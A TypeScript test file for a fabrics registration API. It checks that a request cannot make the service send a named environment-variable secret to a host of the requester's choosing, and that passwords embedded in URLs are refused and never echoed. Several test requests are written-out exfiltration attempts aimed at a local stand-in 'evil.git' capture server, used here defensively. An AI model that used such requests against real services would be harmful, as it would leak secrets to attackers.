/**
 * Credentials named over the fabrics API (issue 10, item 2): an admin token must not be able to send any
 * environment variable to a server of its choice. A real gateway, the FGD service on an embedded broker, a
 * real git smart-HTTP server, and a capture server standing in for the attacker's host.
 */
import assert from "node:assert/strict";
import { createEmbeddedBroker } from "../../pipeline/broker/embedded/mod.ts";
import { startGitServer } from "../../pipeline/testing/git_server.ts";
import { testDeps } from "../../pipeline/testing/deps.ts";
import { startTestGateway } from "../../connectors/gateway/testing.ts";
import { buildFabricServices } from "./service.ts";
import { crdRepoFiles, FABRIC_YAML } from "./_test_util.ts";

const ADMIN = "admin-Secret-7781";

/** An HTTP server that records every Authorization header it is sent (the attacker's host). */
function captureServer() {
  const seen: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    seen.push(req.headers.get("authorization") ?? "(none)");
    return new Response("no", { status: 401, headers: { "WWW-Authenticate": 'Basic realm="x"' } });
  });
  return { seen, url: `http://127.0.0.1:${server.addr.port}/evil.git`, stop: () => server.shutdown() };
}

async function setup() {
  const git = await startGitServer({ auth: { token: "git-token" } });
  await git.createRepo("lz", { ...crdRepoFiles(), "fabrics/dc1/raw/fabric.yaml": FABRIC_YAML });
  const capture = captureServer();
  const dataDir = await Deno.makeTempDir({ prefix: "lzsync-fgd-cred-" });
  const env = { LZSYNC_TOKEN: ADMIN, GIT_TOKEN: "git-token", KUBE_TOKEN: "kube-Secret-5" };
  const gitHost = new URL(git.url("lz")).host;
  const config = {
    data_dir: dataDir,
    landing_zone: { repo: git.url("lz") },
    credentials: {
      lz_git: { token_env: "GIT_TOKEN", hosts: [gitHost] },
      anywhere: { token_env: "GIT_TOKEN" },
    },
  };
  const broker = await createEmbeddedBroker();
  const deps = testDeps(broker, config, env);
  const fgd = buildFabricServices(deps, { scheduleMs: 0, kubeIntervalMs: 0, gitHints: false });
  for (const s of fgd.services) await s.start();
  const gw = await startTestGateway({ plugins: [fgd.plugin], broker, config, env });
  const register = async (body: unknown) => {
    const res = await fetch(`${gw.url}/api/v1/fabrics`, {
      method: "POST",
      headers: { authorization: `Bearer ${ADMIN}`, "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    return { status: res.status, body: await res.json() };
  };
  return {
    git,
    gw,
    capture,
    register,
    fgd,
    async stop() {
      await gw.stop();
      for (const s of fgd.services) await s.stop();
      await broker.close();
      await capture.stop();
      await git.stop();
      await Deno.remove(dataDir, { recursive: true });
    },
  };
}

Deno.test("fabrics API: credential_env naming any variable is refused; only configured credentials, on their hosts", async () => {
  const t = await setup();
  try {
    const exfil = await t.register({
      id: "x1",
      repo: t.capture.url,
      path: "f",
      credential_env: "LZSYNC_TOKEN",
    });
    assert.equal(exfil.status, 400, JSON.stringify(exfil.body));
    assert.equal(exfil.body.error, "invalid_credential");
    assert.match(exfil.body.reason, /credential_env.*not accepted over the API.*credentials/);
    assert.match(exfil.body.reason, /anywhere, lz_git/, "names the configured credentials");
    const kube = await t.register({
      id: "x2",
      path: "f",
      kubernetes: { api_url: t.capture.url, token_env: "LZSYNC_TOKEN" },
    });
    assert.equal(kube.status, 400, JSON.stringify(kube.body));
    assert.match(kube.body.reason, /kubernetes\.token_env/);
    const unknown = await t.register({
      id: "x3",
      repo: t.capture.url,
      path: "f",
      credential: "LZSYNC_TOKEN",
    });
    assert.equal(unknown.status, 400);
    assert.match(unknown.body.reason, /no credential named "LZSYNC_TOKEN"/);
    const wrongHost = await t.register({ id: "x4", repo: t.capture.url, path: "f", credential: "lz_git" });
    assert.equal(wrongHost.status, 400);
    assert.match(wrongHost.body.reason, /credential "lz_git" may only be sent to/);
    // Nothing registered, nothing sent anywhere.
    await new Promise((r) => setTimeout(r, 300));
    assert.deepEqual(t.capture.seen, []);
    const list = await (await fetch(`${t.gw.url}/api/v1/fabrics`, {
      headers: { authorization: `Bearer ${ADMIN}` },
    })).json();
    assert.deepEqual(list.fabrics.map((f: { id: string }) => f.id), []);

    // A configured credential on its host works: the registration run reads and pushes with it.
    const ok = await t.register({
      id: "dc1",
      repo: t.git.url("lz"),
      path: "fabrics/dc1",
      credential: "lz_git",
      crd_dirs: ["fabrics/crds/hedgehog"],
    });
    assert.equal(ok.status, 201, JSON.stringify(ok.body));
    assert.equal(ok.body.fabric.credential, "lz_git");
    const end = Date.now() + 20_000;
    let status: { last_run?: { outcome: string }; last_error?: string } = {};
    while (Date.now() < end && !status.last_run) {
      status = await (await fetch(`${t.gw.url}/api/v1/fabrics/dc1`, {
        headers: { authorization: `Bearer ${ADMIN}` },
      })).json();
      await new Promise((r) => setTimeout(r, 50));
    }
    assert.equal(status.last_run?.outcome, "committed", status.last_error ?? "no run yet");
  } finally {
    await t.stop();
  }
});

Deno.test("fabrics API: a password inside a repo or Kubernetes URL is refused (400), never stored or shown", async () => {
  const t = await setup();
  try {
    const url = t.git.url("lz").replace("http://", "http://alice:pw-Secret-91@");
    const r = await t.register({ id: "dc2", repo: url, path: "fabrics/dc2" });
    assert.equal(r.status, 400, JSON.stringify(r.body));
    assert.equal(r.body.error, "invalid_credential");
    assert.match(r.body.reason, /\/repo: .*credentials inside the URL.*credential/);
    assert.ok(!JSON.stringify(r.body).includes("pw-Secret-91"), "the answer does not echo the password");
    const k = await t.register({
      id: "dc3",
      path: "fabrics/dc3",
      kubernetes: { api_url: "https://bob:tok@127.0.0.1:1/" },
    });
    assert.equal(k.status, 400);
    assert.match(k.body.reason, /\/kubernetes\/api_url: /);
    const list = await (await fetch(`${t.gw.url}/api/v1/fabrics`, {
      headers: { authorization: `Bearer ${ADMIN}` },
    })).text();
    assert.ok(!list.includes("pw-Secret-91"));
    assert.deepEqual(JSON.parse(list).fabrics, []);
  } finally {
    await t.stop();
  }
});
